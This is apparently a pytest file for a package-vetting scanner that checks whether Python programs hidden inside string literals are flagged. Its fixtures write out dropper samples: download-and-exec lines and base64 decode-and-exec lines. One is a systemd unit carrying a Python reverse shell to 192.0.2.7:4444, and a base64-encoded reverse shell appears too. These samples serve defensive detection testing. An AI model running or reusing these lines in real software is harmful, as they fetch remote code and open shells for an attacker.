"""Python programs inside strings (features/source/embedded.py): their strong signals count at the
literal's line; what a template or fixture imports does not."""

from __future__ import annotations

import base64

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.source.embedded import parse_program, scan_programs
from vetpy.features.source.facts import FactsBuilder
from vetpy.features.source.prepass import has_marks
from vetpy.features.source.scan import scan_source
from vetpy.features.source.text import Lines

PAYLOAD = base64.b64encode(b"print('hello')").decode()
DROPPERS = {
    "download_exec": (
        "import os\ndef save(p):\n    with open(p, 'w') as fh:\n"
        "        fh.write(\"import urllib.request\\nexec(urllib.request.urlopen('http://192.0.2.7/p').read())\")\n"
    ),
    "decode_exec": (
        "def save(p):\n"
        "    open(p, 'w').write(\"import pickle,zlib,base64\\n"
        f"pickle.loads(base64.b64decode('{PAYLOAD}'))\")\n"
    ),
    "spawned": (
        "import subprocess, sys\ndef go():\n"
        "    subprocess.Popen([sys.executable, '-c',\n"
        f"        \"import base64;exec(base64.b64decode('{PAYLOAD}'))\"])\n"
    ),
    "reverse_shell": (
        'UNIT = """[Service]\n'
        'ExecStart=/usr/bin/python3 -c "import socket,os,pty;s=socket.socket();'
        "s.connect(('192.0.2.7',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"\n"
        '"""\n'
    ),
    "shell_line": (
        "import os\ndef go():\n"
        "    os.system('python3 -c \"import urllib.request as u;exec(u.urlopen(\\'http://192.0.2.7/a\\').read())\"')\n"
    ),
}
FEATURE = {  # shape -> (feature, the line of the literal)
    "download_exec": ("code.download_exec", 4),
    "decode_exec": ("code.decode_exec", 2),
    "spawned": ("code.decode_exec", 4),
    "reverse_shell": ("code.reverse_shell", 1),
    "shell_line": ("code.download_exec", 3),
}


@pytest.mark.parametrize("shape", sorted(DROPPERS))
def test_a_dropped_program_counts_its_strong_signal_at_the_literal(shape: str) -> None:
    src = DROPPERS[shape]
    facts = scan_source("m.py", src)
    feature, line = FEATURE[shape]
    assert facts.has_strong(feature)
    hit = facts.examples[feature][0]
    assert hit.line == line and hit.message.startswith("Python in a string")
    assert "embedded:python" in facts.tokens and f"embedded:{feature.removeprefix('code.')}" in facts.tokens


def test_a_program_that_only_downloads_passes_nothing_on() -> None:
    """Without the exec the inner program's download is not strong: only the token."""
    facts = scan_source("m.py", DROPPERS["download_exec"].replace("exec(", "print("))
    assert not facts.has_strong("code.download_exec")
    assert "embedded:python" in facts.tokens  # urlopen is still an active call of the inner program


TEMPLATES = [
    # a build helper's template: imports os and runs commands, nothing strong
    'import textwrap\nT = textwrap.dedent("""import os\nimport subprocess\n'
    "def build():\n    os.system('make')\n    subprocess.check_call(['gcc', 'x.c'])\n\"\"\")\n",
    # a test fixture handed to python -c
    "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.argv)'])\n",
    # generated module text
    "HEADER = \"# auto-generated\\nimport _cffi_backend\\nffi = _cffi_backend.FFI('x')\\n\"\n",
    # exec of a local file in a template
    "CODE = \"import runpy\\nexec(open('conf.py').read())\"\n",
]


@pytest.mark.parametrize("src", TEMPLATES)
def test_templates_and_fixtures_count_nothing(src: str) -> None:
    plain = scan_source("m.py", src)
    for feature in ("code.os_system", "code.subprocess", "code.exec_eval", "code.decode_exec"):
        outer = src.count("subprocess.run(") if feature == "code.subprocess" else 0
        assert plain.counts.get(feature, 0) == outer
    assert not [t for t in plain.tokens if t.startswith("embedded:") and t != "embedded:python"]


def test_a_program_that_calls_nothing_active_gets_no_token() -> None:
    facts = scan_source("m.py", 'CODE = "import sys; print(sys.version)"\n')
    assert "embedded:python" not in facts.tokens


@pytest.mark.parametrize(
    "value",
    [
        "import os is not a program;",  # not Python
        "see the docs: eval(expr) is slow\nuse ast.literal_eval",
        "x" * 30,
    ],
)
def test_text_that_is_not_python_adds_nothing(value: str) -> None:
    facts = scan_source("m.py", f"V = {value!r}\n")
    assert not [t for t in facts.tokens if t.startswith("embedded:")]


def test_docstrings_are_not_programs() -> None:
    src = (
        'def f():\n    """Example:\n\n    import base64\n'
        '    exec(base64.b64decode(data))\n    """\n    return 1\n'
    )
    assert "embedded:python" not in scan_source("m.py", src).tokens


def test_a_decoded_constant_that_is_a_program_is_walked() -> None:
    inner = "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.7',4444))\nos.dup2(s.fileno(),0)\n"
    src = f"import base64\nBLOB = {base64.b64encode(inner.encode()).decode()!r}\n"
    facts = scan_source("m.py", src)
    assert facts.has_strong("code.reverse_shell") and facts.examples["code.reverse_shell"][0].line == 2


def test_a_bytes_literal_that_is_a_program_is_walked() -> None:
    src = "open('x.py', 'wb').write(b\"import base64\\nexec(base64.b64decode('aGk='))\")\n"
    facts = scan_source("m.py", src)
    assert facts.has_strong("code.decode_exec") and "embedded:python" in facts.tokens


def test_a_built_string_that_is_a_program_is_walked() -> None:
    src = 'P = "import base64\\n" + "exec(base64.b64decode(\'aGk=\'))"\n'
    facts = scan_source("m.py", src)
    assert facts.has_strong("code.decode_exec")


def test_programs_inside_a_program_are_not_followed() -> None:
    """One level: a program's own strings are not parsed again (bounded depth)."""
    inner = "import base64;exec(base64.b64decode('aGk='))"
    src = f"X = {'import os; CODE = ' + repr(inner)!r}\n"
    assert not scan_source("m.py", src).has_strong("code.decode_exec")


def test_programs_are_bounded_per_file_and_in_size() -> None:
    scan = FactsBuilder("m.py")
    program = "import base64;exec(base64.b64decode('aGk='))"
    scan.programs = [(program + f"#{i}", 1, False) for i in range(100)]
    scan_programs(scan, Lines(""))
    assert scan.counts["code.decode_exec"] == 1 and not scan.programs
    big = "import base64\n" + "x = 1\n" * 5000 + "exec(base64.b64decode('aGk='))\n"
    assert "embedded:python" not in scan_source("m.py", f"B = {big!r}\n").tokens


def test_deep_nesting_is_not_python() -> None:
    assert parse_program("import os;x=" + "(" * 5000 + ")" * 5000) is None


def test_the_signal_reaches_the_package_features() -> None:
    feats = extract_features(make_archive({"setup.py": "", "demo/util.py": DROPPERS["decode_exec"]}))
    assert feats.values["code.decode_exec"] == 1.0
    assert "embedded:python" in feats.code_text.split()
    assert any(e.message.startswith("Python in a string") for e in feats.evidence)


@pytest.mark.parametrize("shape", sorted(DROPPERS))
def test_the_fast_pass_sends_every_dropper_to_the_syntax_tree(shape: str) -> None:
    """A program with an active call names a mark, so a skipped file never hides one."""
    assert has_marks(DROPPERS[shape])
